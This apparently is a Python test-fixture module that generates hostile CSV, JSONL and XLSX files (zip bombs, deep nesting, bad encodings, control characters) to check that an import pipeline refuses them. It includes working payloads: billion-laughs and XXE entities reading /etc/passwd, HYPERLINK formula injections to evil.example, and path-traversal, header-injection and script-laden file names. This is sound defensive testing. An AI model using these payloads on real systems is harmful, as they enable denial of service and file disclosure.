"""A deterministic corpus of hostile data files: every one must be refused, none may crash.

`corpus()` builds them in memory (a few MB in all, well under a second): CSV, JSONL and XLSX
with deep nesting, huge cells and lines, zip bombs (a 1 MB file stating 1 GiB inflated,
one over the compression ratio, one whose stated size lies), malformed or entity-laden XML,
wrong and mixed encodings, NULs and other control characters, formula cells, many rows
(bounded), duplicate and missing headers, binary junk, truncated archives, and hostile file
names (traversal, absolute, NUL, backslashes, 300+ bytes). Each file holds at least one
thing that must be refused, and its other rows cite records that exist (enterprise E1, need
N1), so a file half-accepted would change what is stored.
"""

from __future__ import annotations

import codecs
import json
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO
from pathlib import PurePosixPath

MB = 1 << 20
HEADER = "id,enterprise_id,kind,text"
GOOD = "N1,E1,tech,电池包需要散热技术"  # valid: accepted, it would change N1
GOOD_JSON = {"id": "N1", "enterprise_id": "E1", "kind": "tech", "text": "电池包需要散热技术"}
_FIXED_TIME = (2024, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: the name a client sends, its bytes, the record kind it claims."""

    name: str
    data: bytes
    kind: str
    why: str
    suffix: str  # the format it claims on disk (.csv, .jsonl, .xlsx, or another)

    def disk_name(self, index: int) -> str:
        """A name the file can have on disk, naming its kind (`need-007-….csv`)."""
        return f"{self.kind}-{index:03d}{self.suffix}"


def _file(name: str, data: bytes, why: str, kind: str = "need", suffix: str | None = None):
    shown = PurePosixPath(name.replace("\\", "/").replace("\x00", "")).suffix
    return Hostile(name, data, kind, why, suffix if suffix is not None else shown[:16])


def _csv(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\n".join(lines) + "\n").encode(encoding)


def _jsonl(*lines: str | dict) -> bytes:
    text = [
        line if isinstance(line, str) else json.dumps(line, ensure_ascii=False) for line in lines
    ]
    return ("\n".join(text) + "\n").encode("utf-8")


# --- XLSX, written part by part (deterministic bytes, full control over the XML) ------------
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
    '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET = "xl/worksheets/sheet1.xml"


def _col(index: int) -> str:
    name = ""
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def cell(ref: str, value: object) -> str:
    """One cell's XML: numbers as numbers, anything else as an inline string."""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_rows(rows: list[list[object]], first: int = 1) -> str:
    """The <row> elements of `rows`, numbered from `first`."""
    out = []
    for number, values in enumerate(rows, start=first):
        cells = "".join(cell(f"{_col(i)}{number}", v) for i, v in enumerate(values, start=1))
        out.append(f'<row r="{number}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str, dimension: str = "A1", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="http://schemas.'
        f'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/>'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def xlsx(parts: dict[str, str | bytes | None]) -> bytes:
    """A zip archive of `parts` over those of a one-sheet workbook (None: leave a part out)."""
    members: dict[str, str | bytes | None] = {
        "[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS,
        "xl/workbook.xml": _WORKBOOK, "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
    }  # fmt: skip
    members.update(parts)
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if data is not None:
                info = zipfile.ZipInfo(name, _FIXED_TIME)
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
    return out.getvalue()


def table_xlsx(rows: list[list[object]], **sheet: str) -> bytes:
    return xlsx({SHEET: sheet_xml(sheet_rows(rows), **sheet)})


XLSX_HEADER: list[object] = ["id", "enterprise_id", "kind", "text"]
XLSX_GOOD: list[object] = ["N1", "E1", "tech", "电池包需要散热技术"]


def _zeros_deflated(mib: int) -> bytes:
    """Raw deflate data of `mib` MiB of zero bytes, built in milliseconds: after a full
    flush every further MiB of zeros compresses to the same bytes."""
    zeros = bytes(MB)
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = engine.compress(zeros) + engine.flush(zlib.Z_FULL_FLUSH)
    repeated = engine.compress(zeros) + engine.flush(zlib.Z_FULL_FLUSH)
    last = engine.compress(zeros) + engine.flush()
    return first + repeated * (mib - 2) + last


def _deflated(text: str) -> tuple[bytes, int, int]:
    """Raw deflate data, size and CRC of one XML part."""
    data = text.encode("utf-8")
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush(), len(data), zlib.crc32(data)


def raw_zip(members: list[tuple[str, bytes, int, int]], workbook: bool = True) -> bytes:
    """A zip archive of already deflated members (name, data, stated size, stated CRC), after
    the other parts of a one-sheet workbook (`workbook`)."""
    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS,
             "xl/workbook.xml": _WORKBOOK, "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS}  # fmt: skip
    listed = [(name, *_deflated(text)) for name, text in parts.items()] if workbook else []
    out, directory = BytesIO(), BytesIO()
    for name, data, size, crc in listed + members:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data),
                              size, len(encoded), 0) + encoded + data)  # fmt: skip
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21,
                                    crc, len(data), size, len(encoded), 0, 0, 0, 0, 0,
                                    offset) + encoded)  # fmt: skip
    start, listing, count = out.tell(), directory.getvalue(), len(listed) + len(members)
    out.write(listing)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(listing), start, 0))
    return out.getvalue()


def _xlsx_files() -> list[Hostile]:
    good = table_xlsx([XLSX_HEADER, XLSX_GOOD])
    wide_row = '<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>N1</t></is></c><c r="XFD{n}"/></row>'
    laughs = (
        '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    )
    xxe = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

    def sheet_of(*rows: list[object], **sheet: str) -> bytes:
        return xlsx({SHEET: sheet_xml(sheet_rows(list(rows)), **sheet)})

    # Zeros: the CRC stated is 0, which no reader reaches (the sizes refuse the file first).
    bomb = [(SHEET, _zeros_deflated(1024), 1024 * MB, 0)]
    lying = _deflated(sheet_xml(sheet_rows([XLSX_HEADER, XLSX_GOOD] * 2000)))
    corrupt = bytearray(good)
    corrupt[len(good) // 3 : len(good) // 3 + 64] = bytes(64)
    files = [
        _file("needs-bomb.xlsx", raw_zip(bomb), "1 MB 的文件，解压后 1 GiB（压缩炸弹）"),
        _file("needs-bomb-bare.xlsx", raw_zip(bomb, workbook=False), "只有一个 1 GiB 的成员"),
        _file(
            "needs-ratio.xlsx",
            raw_zip([(SHEET, _zeros_deflated(64), 64 * MB, 0)]),
            "压缩比约 1000:1",
        ),
        _file(
            "needs-lying-size.xlsx",
            raw_zip([(SHEET, lying[0], 1000, lying[2])]),
            "目录中声明的大小小于实际数据",
        ),
        _file("needs-corrupt.xlsx", bytes(corrupt), "压缩数据中间被改写"),
        _file(
            "needs-many-members.xlsx",
            xlsx({f"junk/{i}.xml": "" for i in range(10_001)}),
            "压缩包内有一万多个文件",
        ),
        _file("needs-truncated.xlsx", good[: len(good) // 2], "截断的压缩包"),
        _file("needs-truncated-end.xlsx", good[:-10], "缺少结尾目录的压缩包"),
        _file(
            "needs-no-workbook.xlsx",
            xlsx({"xl/workbook.xml": None, SHEET: ""}),
            "缺少 workbook.xml",
        ),  # type: ignore[dict-item]
        _file("needs-no-sheet.xlsx", xlsx({}), "工作簿指向不存在的工作表"),
        _file(
            "needs-bad-sheet-xml.xlsx",
            xlsx({SHEET: sheet_xml(sheet_rows([XLSX_HEADER, XLSX_GOOD]))[:-40]}),
            "工作表 XML 被截断",
        ),
        _file(
            "needs-bad-workbook-xml.xlsx",
            xlsx({"xl/workbook.xml": _WORKBOOK[:-30], SHEET: ""}),
            "workbook.xml 被截断",
        ),
        _file(
            "needs-laughs.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER, ["&d;", "E1", "tech", "x"]]), prolog=laughs
                    ).replace("&amp;d;", "&d;")
                }
            ),
            "XML 实体膨胀（billion laughs）",
        ),
        _file(
            "needs-xxe.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER, ["&x;", "E1", "tech", "x"]]), prolog=xxe
                    ).replace("&amp;x;", "&x;")
                }
            ),
            "XML 外部实体（读取 /etc/passwd）",
        ),
        _file(
            "needs-nul-in-xml.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER, ["N1", "E1", "tech", "a&#0;b"]])
                    ).replace("a&amp;#0;b", "a&#0;b")
                }
            ),
            "XML 中的 NUL 字符引用",
        ),
        _file(
            "needs-raw-control-xml.xlsx",
            xlsx({SHEET: sheet_xml(sheet_rows([XLSX_HEADER, ["N1", "E1", "tech", "a\x1bb"]]))}),
            "XML 中的控制字符",
        ),
        _file(
            "needs-lying-dimension.xlsx",
            sheet_of(
                XLSX_HEADER, XLSX_GOOD, ["N2", "E1", "bad-kind", "x"], dimension="A1:XFD1048576"
            ),
            "声明的范围为整张表",
        ),
        _file(
            "needs-small-dimension.xlsx",
            sheet_of(XLSX_HEADER, XLSX_GOOD, ["N2", "E1", "bad-kind", "x"], dimension="A1"),
            "声明的范围小于实际数据（问题行在范围之外）",
        ),
        _file(
            "needs-data-far-right.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER, XLSX_GOOD])
                        + '<row r="3"><c r="XFD3"><v>1</v></c></row>'
                    )
                }
            ),
            "第 16384 列有数据",
        ),
        _file(
            "needs-wide-rows.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER])
                        + "".join(wide_row.format(n=n) for n in range(2, 2100))
                    )
                }
            ),
            "两千行、每行 16384 列（单元格总数超限）",
        ),
        _file(
            "needs-row-beyond-excel.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER, XLSX_GOOD]) + sheet_rows([["N2"]], first=2_000_000)
                    )
                }
            ),
            "行号 2,000,000（超过 Excel 上限）",
        ),
        _file(
            "needs-bad-row-number.xlsx",
            xlsx({SHEET: sheet_xml('<row r="abc"><c r="A1"><v>1</v></c></row>')}),
            "行号不是数字",
        ),
        _file(
            "needs-bad-cell-ref.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER]) + '<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>'
                    )
                }
            ),
            "单元格引用不存在的列",
        ),
        _file(
            "needs-shared-string-missing.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER]) + '<row r="2"><c r="A2" t="s"><v>99</v></c></row>'
                    )
                }
            ),
            "共享字符串序号越界，且没有共享字符串表",
        ),
        _file(
            "needs-bad-shared-strings.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER]) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
                    ),
                    "xl/sharedStrings.xml": "<sst><si><t>N1</t></si",
                }
            ),
            "共享字符串表 XML 损坏",
        ),
        _file(
            "needs-formula-no-value.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([XLSX_HEADER])
                        + '<row r="2"><c r="A2"><f>HYPERLINK("http://evil.example",'
                        '"点击")</f></c>'
                        + cell("B2", "E1")
                        + cell("C2", "tech")
                        + cell("D2", "x")
                        + "</row>"
                    )
                }
            ),
            "编号列是公式且没有缓存值",
        ),
        _file(
            "needs-formula-text.xlsx",
            table_xlsx(
                [
                    XLSX_HEADER,
                    ["N1", "E1", "tech", '=HYPERLINK("http://evil.example")'],
                    ["N2", "E1", "=1+1", "x"],
                ]
            ),
            "以 = 开头的文本与公式类型",
        ),
        _file(
            "needs-error-cell.xlsx",
            xlsx(
                {
                    SHEET: sheet_xml(
                        sheet_rows([[*XLSX_HEADER, "amount"], XLSX_GOOD])
                        + '<row r="3"><c r="A3" t="e"><v>#DIV/0!</v></c></row>'
                    )
                }
            ),
            "错误值单元格",
        ),
        _file(
            "needs-huge-cell.xlsx",
            table_xlsx([XLSX_HEADER, ["N1", "E1", "tech", "长" * 200_000]]),
            "单元格 20 万字",
        ),
        _file(
            "needs-wide-header.xlsx",
            table_xlsx([[f"列{i}" for i in range(300)], XLSX_GOOD]),
            "表头 300 列",
        ),
        _file(
            "needs-duplicate-header.xlsx",
            table_xlsx(
                [["id", "id", "enterprise_id", "kind", "text"], ["N1", "N2", "E1", "tech", "x"]]
            ),
            "重复的表头",
        ),
        _file("needs-no-header.xlsx", table_xlsx([XLSX_GOOD, XLSX_GOOD]), "缺少表头"),
        _file("needs-empty.xlsx", table_xlsx([]), "没有任何行"),
        _file(
            "needs-numbers-as-ids.xlsx",
            table_xlsx([XLSX_HEADER, [1, 2, 3, 4], [True, None, 1.5, -1]]),
            "数字与布尔值",
        ),
        _file("needs-csv-renamed.xlsx", _csv(HEADER, GOOD), "CSV 内容、.xlsx 后缀"),
        _file(
            "needs-ole.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), ".xls（OLE）改名"
        ),
    ]
    return files


def _csv_files() -> list[Hostile]:
    big_cell = "长" * 140_000
    files = [
        _file(
            "needs-huge-cell.csv",
            _csv(HEADER, GOOD, f'N2,E1,tech,"{big_cell}"'),
            "单元格超过 131,072 字",
        ),
        _file(
            "needs-huge-line.csv",
            _csv(HEADER, GOOD, "N2,E1,tech," + "长" * 1_500_000),
            "一行 4.5 MB",
        ),
        _file(
            "needs-endless-line.csv",
            (HEADER + "\n" + "x" * 5_000_000).encode(),
            "五百万字节且没有换行",
        ),
        _file(
            "needs-many-cells.csv",
            _csv(HEADER, GOOD, "N2,E1,tech,x" + ",y" * 300_000),
            "一行 30 万个单元格",
        ),
        _file(
            "needs-wide-header.csv",
            _csv(",".join(f"列{i}" for i in range(300)), GOOD),
            "表头 300 列",
        ),
        _file(
            "needs-duplicate-header.csv",
            _csv("id,id,enterprise_id,kind,text", "N1,N2,E1,tech,x"),
            "重复的表头",
        ),
        _file(
            "needs-alias-header.csv",
            _csv("id,需求编号,enterprise_id,kind,text", "N1,N2,E1,tech,x"),
            "两列对应同一字段",
        ),
        _file("needs-no-header.csv", _csv(GOOD, GOOD), "缺少表头"),
        _file(
            "needs-unknown-header.csv",
            _csv("id,enterprise_id,kind,text,密码", GOOD + ",x"),
            "未知列",
        ),
        _file("needs-empty.csv", b"", "空文件"),
        _file("needs-blank.csv", b"\n \n\t\n\r\n", "只有空白"),
        _file(
            "needs-header-only-bad.csv",
            _csv("id,enterprise_id,kind,text,", GOOD + ",", "N2,E1,bad,x,"),
            "表头末尾多余逗号",
        ),
        _file(
            "needs-unbalanced-quote.csv",
            _csv(HEADER, GOOD, 'N2,E1,tech,"未结束的引号'),
            "引号没有结束",
        ),
        _file("needs-quote-in-field.csv", _csv(HEADER, GOOD, 'N2,E1,te"ch,x'), "字段中间的引号"),
        _file(
            "needs-cr-only.csv", "\r".join([HEADER, GOOD, "N2,E1,bad,x"]).encode(), "只用 CR 换行"
        ),
        _file(
            "needs-mixed-delimiters.csv", _csv("id\tenterprise_id,kind;text", GOOD), "混用分隔符"
        ),
        _file("needs-tsv-commas.tsv", _csv("id,enterprise_id,kind,text", GOOD), ".tsv 却用逗号"),
        _file(
            "needs-many-blank-rows.csv",
            (_csv(HEADER, GOOD) + b"\n" * 300_000 + _csv("N2,E1,bad-kind,x")),
            "30 万空行后一行错误",
        ),
        _file(
            "needs-many-rows.csv",
            _csv(HEADER, *([GOOD] * 5000), "N2,E1,bad-kind,x"),
            "五千行重复编号",
        ),
        _file("needs-missing-enterprise.csv", _csv(HEADER, GOOD, "N2,E404,tech,x"), "企业不存在"),
        _file(
            "needs-formula-amount.csv",
            _csv(HEADER + ",amount", GOOD + ",", "N2,E1,finance,x,=1+1"),
            "金额是公式",
        ),
        _file(
            "needs-formula-cells.csv",
            _csv(
                HEADER,
                '=HYPERLINK("http://evil.example/?x="&A1;"点击"),E1,tech,x',
                "@SUM(1+1),E1,tech,x",
                "+1,E1,bad,x",
            ),
            "公式注入文本",
        ),
        _file(
            "needs-huge-number.csv",
            _csv(HEADER + ",amount", GOOD + ",", "N2,E1,finance,x," + "9" * 5000),
            "金额 5000 位",
        ),
        _file(
            "needs-infinity.csv",
            _csv(HEADER + ",amount", GOOD + ",", "N2,E1,finance,x,inf"),
            "金额为 inf",
        ),
        _file(
            "needs-nan.csv",
            _csv(HEADER + ",amount", GOOD + ",", "N2,E1,finance,x,NaN"),
            "金额为 NaN",
        ),
        _file(
            "needs-1e999.csv",
            _csv(HEADER + ",amount", GOOD + ",", "N2,E1,finance,x,1e999"),
            "金额溢出为无穷大",
        ),
        _file(
            "products-deep-rules.csv",
            _csv(
                "id,bank,name,type,amount_min,amount_max,term_min,term_max,rate,description,rules",
                "F9,青岛银行,贷,信用贷,1,2,1,2,3,d," + "[" * 5000 + "]" * 5000,
            ),
            "准入条件 JSON 嵌套 5000 层",
            kind="finance_product",
        ),
        _file(
            "products-nan-rules.csv",
            _csv(
                "id,bank,name,type,amount_min,amount_max,term_min,term_max,rate,description,rules",
                'F9,青岛银行,贷,信用贷,1,2,1,2,3,d,"[{""field"": ""amount"", ""op"": ""ge"", '
                '""value"": NaN}]"',
            ),
            "准入条件含 NaN",
            kind="finance_product",
        ),
        _file("needs-binary.csv", random.Random(1).randbytes(20_000), "随机二进制"),
        _file(
            "needs-png.csv", b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(3000), "PNG 图片改名"
        ),
        _file("needs-zip.csv", table_xlsx([XLSX_HEADER, XLSX_GOOD]), "XLSX 内容、.csv 后缀"),
        _file(
            "needs-gbk.csv", _csv(HEADER, GOOD, "N2,E1,错误类型,描述", encoding="gbk"), "GBK 编码"
        ),
        _file(
            "needs-gb18030.csv",
            _csv(HEADER, GOOD, "N2,E1,tech,㐀" + "\x00", encoding="gb18030"),
            "GB18030 编码且含 NUL",
        ),
        _file(
            "needs-big5.csv",
            _csv(
                HEADER, GOOD.replace("电池包需要散热技术", "電池"), "N2,E1,錯誤,x", encoding="big5"
            ),
            "Big5 编码",
        ),
        _file(
            "needs-shift-jis.csv",
            _csv(HEADER, "N1,E1,tech,電池", "N2,E1,エラー,x", encoding="shift_jis"),
            "Shift-JIS 编码",
        ),
        _file(
            "needs-utf16-bom.csv",
            _csv(HEADER, GOOD, "N2,E1,bad,x", encoding="utf-16"),
            "UTF-16 带 BOM",
        ),
        _file(
            "needs-utf16-no-bom.csv",
            _csv(HEADER, GOOD, "N2,E1,bad,x", encoding="utf-16-le"),
            "UTF-16 无 BOM",
        ),
        _file(
            "needs-utf16-odd.csv",
            _csv(HEADER, GOOD, encoding="utf-16") + b"\x00",
            "UTF-16 字节数为奇数",
        ),
        _file("needs-utf32.csv", _csv(HEADER, GOOD, encoding="utf-32"), "UTF-32"),
        _file(
            "needs-bom-then-gbk.csv",
            codecs.BOM_UTF8 + _csv(HEADER, GOOD, "N2,E1,错误,x", encoding="gbk"),
            "UTF-8 BOM 后是 GBK 字节",
        ),
        _file(
            "needs-double-bom.csv",
            codecs.BOM_UTF8 * 2 + _csv(HEADER, GOOD, "N2,E1,bad,x"),
            "两个 BOM",
        ),
        _file(
            "needs-bad-utf8-late.csv",
            _csv(HEADER, *([GOOD] * 2000)) + b"N2,E1,tech,\xff\xfe\xed\xa0\x80\n",
            "文件末尾的无效 UTF-8（含代理字符编码）",
        ),
        _file(
            "needs-overlong-utf8.csv",
            _csv(HEADER, GOOD) + b"N2,E1,tech,\xc0\xaf\n",
            "过长的 UTF-8 编码",
        ),
        _file(
            "needs-rtl-override.csv",
            _csv(HEADER, GOOD, "N2,E1,tech,\u202egnp.exe"),
            "从右向左覆盖字符",
        ),
        _file("needs-newline-in-id.csv", _csv(HEADER, GOOD, '"N\n2",E1,tech,x'), "编号中有换行"),
        _file("needs-tab-in-id.csv", _csv(HEADER, GOOD, '"N\t2",E1,tech,x'), "编号中有制表符"),
    ]
    for char, label in _CONTROL_CHARS:
        files.append(
            _file(
                f"needs-control-{label}.csv",
                _csv(HEADER, GOOD, f"N2,E1,tech,a{char}b"),
                f"文本中有 {label}",
            )
        )
        files.append(
            _file(
                f"needs-control-{label}-id.csv",
                _csv(HEADER, GOOD, f"N{char}2,E1,tech,x"),
                f"编号中有 {label}",
            )
        )
    files.append(
        _file("needs-nul-header.csv", _csv("id\x00,enterprise_id,kind,text", GOOD), "表头中有 NUL")
    )
    return files


_CONTROL_CHARS = [
    ("\x00", "NUL"), ("\x01", "SOH"), ("\x07", "BEL"), ("\x08", "BS"), ("\x0b", "VT"),
    ("\x0c", "FF"), ("\x1b", "ESC"), ("\x7f", "DEL"), ("\x85", "NEL"), ("\x9b", "CSI"),
]  # fmt: skip


def _jsonl_files() -> list[Hostile]:
    deep = (
        '{"id": "N2", "enterprise_id": "E1", "kind": "tech", "text": '
        + "[" * 10_000
        + "]" * 10_000
        + "}"
    )
    files = [
        _file("needs-deep.jsonl", _jsonl(GOOD_JSON, deep), "嵌套一万层"),
        _file(
            "needs-deep-objects.jsonl",
            _jsonl(GOOD_JSON, '{"a":' * 5000 + "1" + "}" * 5000),
            "对象嵌套五千层",
        ),
        _file("needs-deep-33.jsonl", _jsonl(GOOD_JSON, "[" * 33 + "]" * 33), "嵌套 33 层"),
        _file("needs-deep-unclosed.jsonl", _jsonl(GOOD_JSON, "[" * 100_000), "十万个未闭合的 ["),
        _file(
            "needs-brackets-in-string.jsonl",
            _jsonl(
                GOOD_JSON, {"id": "N2", "enterprise_id": "E1", "kind": "bad", "text": "[" * 1000}
            ),
            "字符串中的括号（不算嵌套）",
        ),
        _file(
            "needs-nan.jsonl",
            _jsonl(
                GOOD_JSON,
                '{"id": "N2", "enterprise_id": "E1", "kind": '
                '"finance", "text": "x", "amount": NaN}',
            ),
            "NaN",
        ),
        _file(
            "needs-infinity.jsonl",
            _jsonl(
                GOOD_JSON,
                '{"id": "N2", "enterprise_id": "E1", '
                '"kind": "finance", "text": "x", "amount": Infinity}',
            ),
            "Infinity",
        ),
        _file(
            "needs-1e999.jsonl",
            _jsonl(
                GOOD_JSON,
                '{"id": "N2", "enterprise_id": "E1", '
                '"kind": "finance", "text": "x", "amount": 1e999}',
            ),
            "1e999（溢出为无穷大）",
        ),
        _file(
            "needs-huge-int.jsonl",
            _jsonl(
                GOOD_JSON,
                '{"id": "N2", "enterprise_id": "E1", '
                '"kind": "finance", "text": "x", "amount": ' + "9" * 5000 + "}",
            ),
            "5000 位整数",
        ),
        _file(
            "needs-long-line.jsonl",
            _jsonl(GOOD_JSON, {**GOOD_JSON, "text": "长" * 1_500_000}),
            "一行 4.5 MB",
        ),
        _file(
            "needs-long-text.jsonl",
            _jsonl(GOOD_JSON, {**GOOD_JSON, "text": "长" * 1_000_000}),
            "需求描述一百万字（一行 3 MB，未超过行的上限）",
        ),
        _file("needs-endless.jsonl", b'{"id": "' + b"x" * 5_000_000, "五百万字节且没有换行"),
        _file("needs-array.jsonl", _jsonl(GOOD_JSON, "[1, 2, 3]"), "一行是数组"),
        _file(
            "needs-scalars.jsonl", _jsonl(GOOD_JSON, '"text"', "42", "null", "true"), "一行是标量"
        ),
        _file("needs-truncated.jsonl", _jsonl(GOOD_JSON) + b'{"id": "N2", "ent', "最后一行被截断"),
        _file(
            "needs-escaped-nul.jsonl",
            _jsonl(GOOD_JSON, {**GOOD_JSON, "id": "N2", "text": "a\x00b"}),
            "转义的 NUL（\\u0000）",
        ),
        _file(
            "needs-raw-nul.jsonl",
            _jsonl(GOOD_JSON) + b'{"id": "N2",\x00 "kind": "tech"}\n',
            "JSON 之外的原始 NUL",
        ),
        _file(
            "needs-raw-control-in-string.jsonl",
            _jsonl(GOOD_JSON) + b'{"id": "N2\x01"}\n',
            "字符串中的原始控制字符",
        ),
        _file(
            "needs-surrogate.jsonl",
            _jsonl(
                GOOD_JSON, '{"id": "N2", "enterprise_id": "E1", "kind": "tech", "text": "\\ud800"}'
            ),
            "孤立的代理字符",
        ),
        _file("needs-nul-key.jsonl", _jsonl(GOOD_JSON, '{"id": "N2", "\\u0000": 1}'), "键名是 NUL"),
        _file(
            "needs-duplicate-keys.jsonl",
            _jsonl(
                GOOD_JSON,
                '{"id": "N2", "id": "N3", "enterprise_id": "E1", "kind": "x", "text": "x"}',
            ),
            "重复的键",
        ),
        _file(
            "needs-many-keys.jsonl",
            _jsonl(GOOD_JSON, json.dumps({f"k{i}": i for i in range(5000)})),
            "五千个未知键",
        ),
        _file(
            "needs-wrong-types.jsonl",
            _jsonl(GOOD_JSON, {"id": ["N2"], "enterprise_id": {"a": 1}, "kind": 3, "text": None}),
            "类型全错",
        ),
        _file("needs-comments.jsonl", _jsonl(GOOD_JSON, "// 注释", "{'id': 'N2'}"), "注释和单引号"),
        _file("needs-utf16.jsonl", (json.dumps(GOOD_JSON) + "\n[1]\n").encode("utf-16"), "UTF-16"),
        _file("needs-bad-utf8.jsonl", _jsonl(GOOD_JSON) + b'{"id": "\xff\xfe"}\n', "无效 UTF-8"),
        _file(
            "needs-bom-middle.jsonl",
            _jsonl(GOOD_JSON) + codecs.BOM_UTF8 + _jsonl(GOOD_JSON),
            "文件中间的 BOM",
        ),
        _file(
            "needs-many-blank-lines.jsonl",
            _jsonl(GOOD_JSON) + b"\n" * 300_000 + b"[]\n",
            "30 万空行后一行错误",
        ),
        _file("needs-binary.jsonl", random.Random(3).randbytes(20_000), "随机二进制"),
        _file("needs-empty.jsonl", b"", "空文件"),
        _file(
            "needs-gzip.jsonl",
            b"\x1f\x8b\x08\x00" + random.Random(4).randbytes(500),
            "gzip 压缩数据",
        ),
    ]
    return files


def name_files() -> list[Hostile]:
    """Hostile names (as a client sends them) on a small file with one bad row."""
    body = _csv(HEADER, GOOD, "N2,E1,bad-kind,x")
    names = [
        ("../../hostile-escape.csv", "上级目录穿越"),
        ("/etc/hostile-absolute.csv", "绝对路径"),
        ("..\\..\\windows\\hostile-backslash.csv", "反斜杠路径穿越"),
        ("C:\\Windows\\System32\\needs.csv", "Windows 绝对路径"),
        ("needs\x00.csv", "名称中有 NUL"),
        ("needs\x00../../x.csv", "NUL 后接穿越"),
        ("n" * 300 + ".csv", "名称 300 字节"),
        ("需" * 200 + ".csv", "名称 200 个汉字（600 字节）"),
        ("needs." + "c" * 300, "后缀 300 字节"),
        ("needs\n.csv", "名称中有换行"),
        ("needs\r\nContent-Type: text/html.csv", "名称中有头部注入"),
        ('needs"<script>alert(1)</script>.csv', "名称中有 HTML"),
        ("needs.csv -> etc-passwd.csv", "像符号链接的名称"),
        (".", "名称为 ."),
        ("..", "名称为 .."),
        ("....csv", "名称只有点"),
        ("needs\u202ev.csv", "从右向左覆盖字符"),
        ("needs%2F..%2Fx.csv", "URL 编码的穿越"),
        ("CON.csv", "Windows 保留名"),
        ("needs .csv ", "首尾空格"),
    ]
    files = [_file(name, body, why, suffix=".csv") for name, why in names]
    files.append(_file("needs", body, "没有后缀", suffix=""))
    files.append(_file("needs.csv.exe", body, "可执行文件后缀", suffix=".exe"))
    files.append(_file("needs.xls", body, ".xls 旧格式", suffix=".xls"))
    return files


def corpus() -> list[Hostile]:
    """Every hostile file, in a fixed order."""
    return _csv_files() + _jsonl_files() + _xlsx_files() + name_files()
